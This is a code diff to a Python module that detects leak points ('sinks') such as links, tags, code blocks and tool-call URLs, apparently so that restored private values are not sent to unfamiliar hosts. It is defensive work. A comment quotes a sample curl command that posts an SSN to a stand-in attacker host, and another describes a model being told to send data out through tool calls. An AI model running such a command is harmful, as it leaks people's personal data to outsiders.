@@ -10,7 +10,7 @@ from __future__ import annotations
 import bisect
 import re
 
-__all__ = ["Sinks"]
+__all__ = ["Sinks", "names_unknown_host"]
 
 _RUN = re.compile(r"\S++")
 # A dotted host name, started only where a word run begins. With no path at all ("<US_SSN_1>.evil.co") it is a link
@@ -37,6 +37,47 @@ _MD_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\[\]\n]{1,300}+\]:[ \t]*+\S++", re.M
 _ANGLED = re.compile(r"<(?:[^<>\n\\]++|\\.)++>?")  # "\>" inside does not end it (review r16b)
 # A tag with attributes; browsers also read "/" as the separator after the tag name ("<img/src=...>").
 _TAG = re.compile(r"<[A-Za-z][\w:-]*+[\s/][^<>]*+>?")
+
+
+# Code a reader copies and runs (review r16a L4): a fenced block, or an inline code span, that holds a URL carries
+# whatever is restored into it to that URL when it runs ('curl -d "ssn=<US_SSN_1>" https://evil.example/c').
+_FENCE_LINE = re.compile(r"^[ \t]{0,3}+(`{3,}+|~{3,}+)[^\n]*+", re.MULTILINE)
+_INLINE_CODE = re.compile(r"(?<!`)(`++)[^`\n]++\1")
+
+
+def _code_blocks(text: str) -> list[tuple[int, int]]:
+    """Fenced code blocks (an unclosed one runs to the end) and inline code spans, by position."""
+    blocks: list[tuple[int, int]] = []
+    opened: re.Match[str] | None = None
+    for m in _FENCE_LINE.finditer(text):
+        fence = m.group(1)
+        if opened is None:
+            opened = m
+        elif fence[0] == opened.group(1)[0] and len(fence) >= len(opened.group(1)):
+            blocks.append((opened.start(), m.end()))
+            opened = None
+    if opened is not None:
+        blocks.append((opened.start(), len(text)))
+    blocks.extend(m.span() for m in _INLINE_CODE.finditer(text))
+    return blocks
+
+
+def names_unknown_host(text: str, known: str, untrusted: str = "") -> bool:
+    """Whether `text` holds a URL whose host `known` never names or `untrusted` names (or one with no host name).
+
+    Tool-call arguments are sent by the application's own code (review r16a L4): an original restored next to a
+    URL the user never gave goes wherever the model was told to send it, as a separate JSON string of the call.
+    """
+    runs = [m.group() for m in _RUN.finditer(text) if _holds_url(m.group(), m.group())]
+    if not runs:
+        return False
+    # Whole host names, not substrings: "ms.example" is not "forms.example".
+    given = {h.lower() for h in _DOTTED.findall(known)} - {h.lower() for h in _DOTTED.findall(untrusted)}
+    for run in runs:
+        hosts = [h.lower() for h in _DOTTED.findall(run)]
+        if not hosts or any(h not in given for h in hosts):
+            return True
+    return False
 
 
 def _hosts_holding(shadow: str, atoms: list[tuple[int, int]]) -> list[tuple[int, int]]:
@@ -84,7 +125,10 @@ def _holds_url(span: str, original: str) -> bool:
 class Sinks:
     """The sink spans of one text; `atoms` (placeholders) count as plain letters inside them."""
 
-    def __init__(self, text: str, atoms: re.Pattern[str] | None = None) -> None:
+    def __init__(self, text: str, atoms: re.Pattern[str] | None = None, *, everywhere: bool = False) -> None:
+        if everywhere:  # the whole text is one sink
+            self._starts, self._ends = [0], [len(text) + 1]
+            return
         # A placeholder's own angle brackets must not end a tag or look like one.
         shadow = atoms.sub(lambda m: "x" * len(m.group()), text) if atoms is not None else text
         shadow = shadow.translate(_IDN_DOTS)
@@ -95,6 +139,7 @@ class Sinks:
         for pattern in (_MD_TARGET, _MD_REFERENCE, _TAG):
             spans.extend(m.span() for m in pattern.finditer(shadow))
         spans.extend(m.span() for m in _ANGLED.finditer(shadow) if _holds_url(m.group(), text[m.start() : m.end()]))
+        spans.extend((a, b) for a, b in _code_blocks(shadow) if _holds_url(shadow[a:b], text[a:b]))
         spans.sort()
         merged: list[tuple[int, int]] = []
         for s, e in spans:
